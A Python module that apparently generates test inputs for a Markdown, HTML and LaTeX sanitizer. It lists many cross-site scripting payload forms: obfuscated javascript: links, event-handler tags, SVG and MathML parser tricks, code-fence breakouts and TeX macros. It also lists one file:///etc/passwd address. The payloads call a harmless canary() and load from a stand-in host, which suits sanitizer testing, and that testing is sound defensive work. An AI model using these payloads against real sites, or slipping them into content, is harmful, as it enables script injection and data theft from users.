"""Texts that try to run a script or to load something from outside, in every way Markdown and HTML know."""

import random
from collections.abc import Iterator

CODE = "canary()"
OUTSIDE = "http://outside.invalid"

# Addresses that run a script where they are followed, written so as to slip past a look at their beginning.
ADDRESSES = [
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f" javascript:{CODE}",
    f"java\tscript:{CODE}",
    f"java&#10;script:{CODE}",
    f"&#106;avascript:{CODE}",
    f"&#x6A;avascript&colon;{CODE}",
    f"javascript&colon;{CODE}",
    f"\x01javascript:{CODE}",
    f"vbscript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={CODE}>",
    f"blob:{OUTSIDE}/x",
    "file:///etc/passwd",
    f"view-source:{OUTSIDE}",
    f"//{OUTSIDE[7:]}/x",
    f"\\\\{OUTSIDE[7:]}\\x",
]
LINKS = [
    "[a]({})",
    "[a](<{}>)",
    "[a][b]\n\n[b]: {}",
    "[b]\n\n[b]: <{}> 'title'",
    "![a]({})",
    "![a][b]\n\n[b]: {}",
    "<{}>",
    "[![a]({0})]({0})",
]
ELEMENTS = [
    "<script>{code}</script>",
    "<script src={out}/x.js></script>",
    "<script type=module>import '{out}/x.js'</script>",
    "<ScRiPt >{code}</sCrIpT>",
    "<<script>script>{code}<</script>/script>",
    "<img src=x onerror={code}>",
    "<img src={out}/x.png>",
    "<img srcset='{out}/x.png 1x'>",
    "<IMG SRC=x ONERROR={code}//",
    "<image src=x onerror={code}>",
    "<picture><source srcset={out}/x.png><img></picture>",
    "<svg onload={code}>",
    "<svg/onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><script href={out}/x.js></script></svg>",
    "<svg><image href={out}/x.png></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={code}>#x'/></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><set onbegin={code} attributeName=x>",
    "<svg><a xlink:href='javascript:{code}'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src='javascript:{code}'></foreignObject></svg>",
    "<svg><style>@import '{out}/x.css'</style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={code}>'>",
    "<math><mtext><script>{code}</script></mtext></math>",
    "<math><a xlink:href='javascript:{code}'>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={code}>'>",
    "<math href='javascript:{code}'>x</math>",
    "<iframe src='javascript:{code}'></iframe>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    "<iframe src={out}></iframe>",
    "<object data='javascript:{code}'></object>",
    "<object data={out}/x.svg></object>",
    "<embed src={out}/x.svg>",
    "<embed code='javascript:{code}'>",
    "<link rel=stylesheet href={out}/x.css>",
    "<link rel=prefetch href={out}/x>",
    "<link rel=dns-prefetch href={out}>",
    "<link rel=preload as=image href={out}/x.png>",
    "<link rel=import href={out}/x.html>",
    "<style>@import '{out}/x.css';</style>",
    "<style>*{{background:url({out}/x.png)}}</style>",
    "<div style='background:url({out}/x.png)'>x</div>",
    "<div style='width:expression({code})'>x</div>",
    "<p style=\"content:url('{out}/x.png')\">x</p>",
    "<meta http-equiv=refresh content='0;url={out}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{code}'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<base href={out}/>",
    "<form action='javascript:{code}'><button>x</button></form>",
    "<form><button formaction='javascript:{code}'>x</button></form>",
    "<form action={out}><input name=q value=x></form>",
    "<input autofocus onfocus={code}>",
    "<input type=image src={out}/x.png>",
    "<select autofocus onfocus={code}></select>",
    "<textarea autofocus onfocus={code}></textarea>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle={code}>x</div>",
    "<video src={out}/x.mp4 autoplay></video>",
    "<video poster={out}/x.png></video>",
    "<video><source onerror={code} src=x></video>",
    "<audio src=x onerror={code}></audio>",
    "<track src={out}/x.vtt>",
    "<details open ontoggle={code}>x</details>",
    "<marquee onstart={code}>x</marquee>",
    "<body onload={code}>",
    "<body background={out}/x.png>",
    "<table background={out}/x.png><tr><td>x</td></tr></table>",
    "<html manifest={out}/x>",
    "<frameset onload={code}></frameset>",
    "<applet code=x archive={out}/x.jar></applet>",
    "<bgsound src={out}/x.wav>",
    "<template><img src=x onerror={code}></template>",
    "<template shadowrootmode=open><img src=x onerror={code}></template>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror={code}>'></xmp>",
    "<textarea></textarea><img src=x onerror={code}>",
    "<title></title><img src=x onerror={code}>",
    "<!--><img src=x onerror={code}>-->",
    "<!-- --!><img src=x onerror={code}> -->",
    "<![CDATA[<img src=x onerror={code}>]]>",
    "<?xml-stylesheet href='javascript:{code}'?>",
    "<?php echo '<script>{code}</script>' ?>",
    "<!DOCTYPE x [<!ENTITY e '<script>{code}</script>'>]>",
    "<a href='javascript:{code}'>x</a>",
    "<a href={out} ping={out}/ping>x</a>",
    "<a id=x tabindex=1 onfocus={code}>x</a>",
    "<area href='javascript:{code}'>",
    "<isindex type=image src={out}/x.png>",
    "<dialog open onclose={code}>x</dialog>",
    "<x onclick={code} contenteditable autofocus onfocus={code}>x</x>",
    "<custom-element onmouseover={code}>x</custom-element>",
    "<sub onclick={code}>x</sub>",
    "<kbd style='position:fixed;inset:0' onmouseover={code}>x</kbd>",
    "<br onload={code}>",
    "<b/onmouseover={code}>x</b>",
    "<u\nonmouseover={code}>x</u>",
    "<sup><img src=x onerror={code}></sup>",
    "<mark><svg onload={code}></mark>",
    "<img src='x`' onerror='{code}'>",
    "<img \x00src=x onerror={code}>",
    '<a href="x" title="a>b" onmouseover="{code}">x</a>',
    "\u003cimg src=x onerror={code}\u003e",
    "&lt;img src=x onerror={code}&gt;",
    "&#60;img src=x onerror={code}&#62;",
]
BREAKOUTS = [
    "```html\n{}\n```",
    "```\n{}",
    '```"><img src=x onerror=canary()>\n{}\n```',
    "```<script>canary()</script>\n{}\n```",
    "`{}`",
    "~~~\n{}\n~~~\n{}",
    "    {}",
    "> {}\n> {}",
    "- {}\n\n  {}",
    "1. a\n   ```\n   {}\n   ```",
    "| a | {} |\n|---|:-:|\n| {} | b |",
    "# {}",
    "**{}** *{}* ~~{}~~",
    "[{}](http://outside.invalid/)",
    "![{}](http://outside.invalid/x.png)",
    "text {} text",
    "<div>\n\n{}\n\n</div>",
    "$$\n{}\n$$",
    "a $ {} $ b",
]
FORMULAS = [
    r"\href{{javascript:{code}}}{{x}}",
    r"\url{{javascript:{code}}}",
    r"\includegraphics{{{out}/x.png}}",
    r"\includegraphics[width=1em]{{{out}/x.svg}}",
    r"\htmlId{{x}}{{y}}",
    r"\class{{x}}{{y}}",
    r"\style{{background:url({out}/x.png)}}{{y}}",
    r"\html{{<img src=x onerror={code}>}}",
    r"\text{{<img src=x onerror={code}>}}",
    r"\unicode{{x3c}}script>{code}",
    r"\color{{red;background:url({out}/x.png)}}x",
    r"\textcolor{{'onclick={code}'}}{{x}}",
    r"\label{{x' onclick='{code}}}",
    r"\def\a{{\a\a}}\a",
    r"\def\a#1{{<script>{code}</script>#1}}\a x",
    r"\rule{{100000em}}{{100000em}}",
]


def payloads() -> Iterator[str]:
    """All of them, each once."""
    for form in LINKS:
        for address in [*ADDRESSES, f"{OUTSIDE}/x.png"]:
            yield form.format(address)
    elements = [element.format(code=CODE, out=OUTSIDE) for element in ELEMENTS]
    yield from elements
    for i, form in enumerate(BREAKOUTS):
        yield from (form.replace("{}", element) for element in elements[i :: len(BREAKOUTS)])
    for formula in FORMULAS:
        tex = formula.format(code=CODE, out=OUTSIDE)
        yield from (f"${tex}$", f"$$\n{tex}\n$$", rf"\({tex}\)")


def cut(text: str, draw: random.Random) -> list[str]:
    """The text in pieces of one to seven characters: at random places, so inside of tags and addresses as well."""
    pieces = []
    while text:
        length = draw.randint(1, 7)
        pieces.append(text[:length])
        text = text[length:]
    return pieces
